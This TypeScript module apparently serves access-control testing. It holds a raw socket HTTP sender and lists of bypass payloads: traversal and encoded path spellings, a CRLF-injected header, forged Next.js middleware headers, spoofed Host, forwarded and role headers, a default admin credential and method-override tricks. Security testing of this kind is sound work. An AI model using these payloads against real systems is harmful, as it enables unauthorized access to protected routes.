import { connect } from 'node:net'

export type Lines = Record<string, string>

/** One request as its bytes go out; nothing between here and the socket tidies the address. */
export interface RawRequest {
  method: string
  target: string
  headers: Lines
  body?: string
}

/** Sends a request byte for byte and resolves to everything that came back; empty when nothing did within five seconds. */
export function sendRaw(url: string, { method, target, headers, body = '' }: RawRequest): Promise<string> {
  const { hostname, port, host } = new URL(url)
  const all: Lines = {
    host,
    connection: 'close',
    'content-length': String(Buffer.byteLength(body)),
    ...headers,
  }
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`)
  return new Promise((resolve) => {
    let answer = ''
    const socket = connect(Number(port), hostname)
    socket.setTimeout(5000, () => socket.destroy())
    socket.setEncoding('latin1')
    socket.on('data', (chunk: string) => (answer += chunk))
    socket.on('error', () => resolve(answer))
    socket.on('close', () => resolve(answer))
    socket.write(`${method} ${target} HTTP/1.1\r\n${lines.join('')}\r\n${body}`)
  })
}

/** The ways to write an address that a checker and a router may read differently. */
export function spellings(path: string, url: string): string[] {
  const [, first = '', ...rest] = path.split('/')
  const tail = rest.length > 0 ? `/${rest.join('/')}` : ''
  const hex = (character: string) => `%${character.charCodeAt(0).toString(16)}`
  return [
    `${path}/`,
    `${path}//`,
    `/${path}`,
    `//${path}`,
    path.replaceAll('/', '//'),
    `/.${path}`,
    `/${first}/.${tail}`,
    `/${first}/./${rest.join('/')}`,
    `/x/..${path}`,
    `/sign-in/..${path}`,
    `/sign-in/%2e%2e${path}`,
    `/_next/static/..${path}`,
    `/_next/static/%2e%2e/%2e%2e${path}`,
    `/api/health/..${path}`,
    `/api/health/%2e%2e/%2e%2e${path}`,
    `/api/health%2f..%2f..${path}`,
    path.replaceAll('/', '/%2e/'),
    `/${first}%2f${rest.join('%2f')}`,
    `/${first}%252f${rest.join('%252f')}`,
    `/${first}%5c${rest.join('%5c')}`,
    `/${first}\\${rest.join('\\')}`,
    `\\${path.slice(1)}`,
    `/%5c${path.slice(1)}`,
    `/%2f${path.slice(1)}`,
    `/${hex(first)}${first.slice(1)}${tail}`,
    path.toUpperCase(),
    `/${first.toUpperCase()}${tail}`,
    `/en${path}`,
    `/default${path}`,
    `${path}.rsc`,
    `${path}.json`,
    `${path}.html`,
    `${path}.txt`,
    `${path}/index.rsc`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_full.segment.rsc`,
    `${path}.segments/__PAGE__.segment.rsc`,
    `${path}.prefetch.rsc`,
    `${path}.action`,
    `/_next/data/build${path}.json`,
    `/_next${path}`,
    `/index${path}`,
    `${path}?_rsc=1`,
    `${path}?nxtPprojectId=sandbox`,
    `${path}?nxtPprojectId=sandbox&nxtPtrunkId=x&nxtIpath=x`,
    `${path}?__nextLocale=en&__nextDefaultLocale=en`,
    `${path}?__nextDataReq=1`,
    `${path}?_method=GET`,
    `${path};a=b`,
    `/${first};a=b${tail}`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0d%0ax-middleware-subrequest:proxy`,
    `${path}#`,
    `${path}?next=/../../api/users`,
    `${url}${path}`,
    `http://evil.example${path}`,
    `//evil.example${path}`,
  ]
}

/** Headers that have told a framework, a proxy or a cache to skip a check or to serve another address. */
export function deceptions(path: string): Lines[] {
  return [
    ...[
      'proxy',
      'src/proxy',
      'proxy:proxy:proxy:proxy:proxy',
      'middleware:middleware:middleware:middleware:middleware',
      'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
      'pages/_middleware',
    ].map((value) => ({ 'x-middleware-subrequest': value })),
    { 'x-middleware-subrequest-id': '1', 'x-middleware-next': '1' },
    { 'x-middleware-prefetch': '1', 'x-nextjs-data': '1' },
    { 'x-middleware-rewrite': path },
    { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
    { 'x-invoke-path': path, 'x-invoke-query': '{}', 'x-invoke-status': '200' },
    { 'x-matched-path': path, 'x-now-route-matches': '1=sandbox' },
    { 'x-original-url': path, 'x-rewrite-url': path },
    { purpose: 'prefetch' },
    { 'sec-purpose': 'prefetch;prerender' },
    { rsc: '1' },
    { rsc: '1', 'next-router-prefetch': '1' },
    { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
    { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_full' },
    { rsc: '1', 'next-router-state-tree': '%5B%22%22%2C%7B%7D%5D', 'next-url': path },
    { 'next-resume': '1' },
    { 'next-action': '0'.repeat(40) },
    { host: 'localhost' },
    { host: 'evil.example' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-port': '443' },
    { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1', forwarded: 'for=127.0.0.1;host=localhost' },
    { 'x-forwarded-uri': path, 'x-forwarded-prefix': '/api/health' },
    { authorization: 'Bearer ey.ey.ey' },
    { authorization: `Basic ${Buffer.from('admin@console.example:admin').toString('base64')}` },
    { cookie: 'est-console-session=; est-console-session=ey.ey.ey' },
    { 'x-user-id': '1', 'x-role': 'admin', 'x-user-role': 'admin' },
  ]
}

/** Ways to make a harmless method out of one that is not, or the other way round. */
export function disguises(method: string): { method: string; headers: Lines; query: string }[] {
  return [
    { method: 'GET', headers: { 'x-http-method-override': method }, query: '' },
    { method: 'GET', headers: { 'x-http-method': method, 'x-method-override': method }, query: '' },
    { method: 'GET', headers: {}, query: `?_method=${method}` },
    { method: 'HEAD', headers: { 'x-http-method-override': method }, query: `?_method=${method}` },
    { method: 'OPTIONS', headers: { 'access-control-request-method': method }, query: '' },
    { method: 'POST', headers: { 'x-http-method-override': method }, query: `?_method=${method}` },
    { method: 'TRACE', headers: {}, query: '' },
    { method: 'PATCH', headers: {}, query: '' },
    { method: 'PROPFIND', headers: {}, query: '' },
  ]
}
